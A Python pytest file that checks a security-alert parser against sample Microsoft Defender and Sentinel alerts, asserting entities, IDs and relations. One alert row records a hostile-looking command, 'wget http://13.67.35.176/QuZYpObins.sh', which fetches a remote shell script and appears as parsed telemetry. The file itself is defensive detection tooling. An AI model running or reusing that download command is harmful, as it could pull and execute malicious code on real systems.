"""The real samples (the corpus beside the clone, see tests/conftest.py) parse completely."""

import json

import pytest

from alerts.ingest.parse import normalize, split_body
from tests.conftest import SAMPLES

pytestmark = pytest.mark.corpus

HOST_ROW = 20  # "Detected suspicious file download": host, processes, account, file, session
INCIDENT_ROW = 23


@pytest.fixture
def arm_alerts():
    doc = json.loads((SAMPLES / "defender-arm-alerts.json").read_text(encoding="utf-8"))
    return doc["responses"]["200"]["body"]["value"]


@pytest.fixture
def sentinel_body():
    return (SAMPLES / "sentinel-securityalert.jsonl").read_bytes()


def parse_arm(arm_alerts):
    body = json.dumps({"value": arm_alerts}, indent=1).encode()
    return [normalize(item.data) for item in split_body(body, "application/json")]


def parse_sentinel(body):
    return [normalize(item.data) for item in split_body(body, "application/x-ndjson")]


def test_the_arm_sample_gives_two_alerts(arm_alerts):
    first, second = parse_arm(arm_alerts)
    assert (first.format, second.format) == ("arm", "arm")
    # Both share one systemAlertId: the ARM name is the key.
    assert first.key == "2518298467986649999_4d25bfef-2d77-4a08-adc0-3e35715cc92a"
    assert second.key == "2518765996949954086_2325cf9e-42a2-4f72-ae7f-9b863cba2d22"
    assert (first.severity, second.severity) == ("high", "medium")
    assert first.tactics == ["Execution"]
    assert first.techniques == ["T1059", "T1053", "T1072"]
    assert first.resource_id.endswith("/Microsoft.Compute/virtualMachines/vm1")
    assert first.workspace_subscription_id == "20ff7fc3-e762-44dd-bd96-b71116dcdc23"
    assert first.compromised_entity == "vm1"
    assert first.provider_status == "active"
    assert first.start_time.isoformat() == "2020-02-22T00:00:00+00:00"
    assert first.extended_links[0]["href"] == "https://contoso.com/reports/DisplayReport"
    assert len(second.remediation_steps) == 6
    # Both say isIncident but list no alerts: they are kept as the alerts they are.
    assert not first.is_incident and not second.is_incident
    assert [w.code for w in first.warnings] == [w.code for w in second.warnings] == \
        ["incident_without_alerts"]


def test_the_arm_sample_entities(arm_alerts):
    first, second = parse_arm(arm_alerts)
    assert [(e.kind, e.label) for e in first.entities] == [("ip", "192.0.2.1")]
    assert first.entities[0].strong_ids == ["ip|address|192.0.2.1"]
    assert [(e.kind, e.label) for e in second.entities] == [
        ("host", "vm2"), ("account", "vm2\\contosoUser"), ("file", "cmd.exe"),
        ("process", "process 0x3c44"), ("file", "scrsave.scr"),
        ("process", "c:\\users\\contosoUser\\scrsave.scr")]
    assert second.relations == []  # ARM entities carry no $id/$ref
    host, account, cmd, parent, _, process = second.entities
    assert host.weak_ids == ["host|name|vm2"]
    assert "host|omsagentid|45b44640-3b94-4892-a28c-4a5cae27065a" in host.strong_ids
    assert account.strong_ids == ["account|sid|s-1-5-21-2144575486-8928446540-5163864319-500",
                                  "account|name-ntdomain|contosouser|vm2"]
    assert parent.strong_ids == []
    vm2 = "vm2"  # the host part is the host's name
    assert cmd.strong_ids == [f"file|path|c:\\windows\\system32|cmd.exe|{vm2}"]
    assert process.strong_ids[0] == f"process|pid-time-host|19180|2018-05-07T13:51:45Z|{vm2}"
    assert host.original["hostName"] == "vm2"


def test_all_25_sentinel_rows_parse(sentinel_body):
    alerts = parse_sentinel(sentinel_body)
    assert len(alerts) == 25
    assert {a.format for a in alerts} == {"sentinel"}
    assert all(a.warnings == [] for a in alerts)
    # 16 rows x 3 + 4 rows x 4 (two IPs) + 3 rows x 6 + the incident (0) + 2
    assert sum(len(a.entities) for a in alerts) == 84
    severities = [a.severity for a in alerts]
    assert (severities.count("low"), severities[22], severities[24]) == (
        23, "informational", "medium")
    ssh = alerts[0]
    assert (ssh.key, ssh.provider, ssh.resource_id) == (
        "f1ce87ca-8863-4a66-a0bd-a4d3776a7c64", "CustomAlertRule", "")
    assert [(e.kind, e.ref_id, e.label) for e in ssh.entities] == [
        ("ip", "3", "23.97.60.214"), ("host", "4", "MSTICAlertsLxVM2"), ("account", "5", "dbadmin")]
    assert ssh.extended_properties["Total IP Entities"] == "1"
    assert ssh.workspace_subscription_id == "40dcc8bf-0478-4f3b-b275-ed0a94f2c013"


def test_a_sentinel_row_links_process_host_account_and_session(sentinel_body):
    alert = parse_sentinel(sentinel_body)[HOST_ROW]
    assert alert.display_name == "Detected suspicious file download"
    labels = [e.label for e in alert.entities]
    assert labels == ["MSTICALERTSLXVM2", "process 0x4e4f", "dbadmin", "wget",
                      "wget http://13.67.35.176/QuZYpObins.sh -t 3 -T 5", "0x2e8cf"]
    named = {(labels[r.source], r.type, labels[r.target]) for r in alert.relations}
    assert named == {
        ("process 0x4e4f", "runs_on", "MSTICALERTSLXVM2"),
        ("dbadmin", "refers_to", "MSTICALERTSLXVM2"),
        ("wget http://13.67.35.176/QuZYpObins.sh -t 3 -T 5", "image", "wget"),
        ("wget http://13.67.35.176/QuZYpObins.sh -t 3 -T 5", "runs_as", "dbadmin"),
        ("wget http://13.67.35.176/QuZYpObins.sh -t 3 -T 5", "parent", "process 0x4e4f"),
        ("wget http://13.67.35.176/QuZYpObins.sh -t 3 -T 5", "runs_on", "MSTICALERTSLXVM2"),
        ("0x2e8cf", "session_host", "MSTICALERTSLXVM2"),
        ("0x2e8cf", "session_account", "dbadmin"),
    }
    assert alert.entities[4].strong_ids[0] == \
        "process|pid-time-host|20053|2019-02-16T03:23:54Z|msticalertslxvm2"
    assert alert.entities[2].weak_ids == ["account|name|dbadmin|msticalertslxvm2"]
    assert alert.entities[2].strong_ids == []  # Sid "1001:1001" is a Linux uid, not a SID
    assert alert.remediation_steps[0].startswith("Review with dbadmin")


def test_the_sentinel_incident_lists_its_alerts(sentinel_body):
    incident = parse_sentinel(sentinel_body)[INCIDENT_ROW]
    assert incident.is_incident
    assert incident.entities == []
    assert incident.incident_alert_ids == [
        "2518522745615999999_c57a0525-9ca0-4caa-aee8-fd1bb33f785b",
        "2518520981440769999_caab1270-55d3-4447-8618-16cf8672e4e1",
        "2518520973978269999_57b6af71-984e-45f3-9aac-d6bbd79eed07"]


def test_the_windows_host_row_carries_strong_ids(sentinel_body):
    alert = parse_sentinel(sentinel_body)[24]
    host, account = alert.entities
    assert host.strong_ids[1] == "host|omsagentid|263a788b-6526-4cdc-8ed9-d79402fe4aa0"
    assert account.strong_ids == ["account|name-ntdomain|ian|msticalertswin1"]
    assert account.label == "msticalertswin1\\ian"
